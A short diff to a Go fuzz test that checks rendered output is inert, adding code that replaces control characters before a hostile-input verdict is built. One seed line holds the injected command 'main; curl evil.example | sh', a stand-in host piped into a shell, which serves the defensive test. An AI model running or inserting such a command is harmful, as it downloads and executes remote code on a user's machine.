@@ -160,6 +160,14 @@ func FuzzRenderedIsInert(f *testing.F) {
 	}
 	f.Add("x", "main; curl evil.example | sh")
 	f.Fuzz(func(t *testing.T, text, ref string) {
+		// cmark-gfm's XML syntax tree, which the checker reads, cannot
+		// carry control characters; they make nothing live.
+		text = strings.Map(func(r rune) rune {
+			if r < 0x20 && r != '\n' && r != '\t' || r == 0x7f || r == 0xfffe || r == 0xffff {
+				return ' '
+			}
+			return r
+		}, strings.ToValidUTF8(text, "\uFFFD"))
 		v := hostileVerdict(text)
 		v.Rerun.Ref = ref
 		b, err := json.Marshal(v)
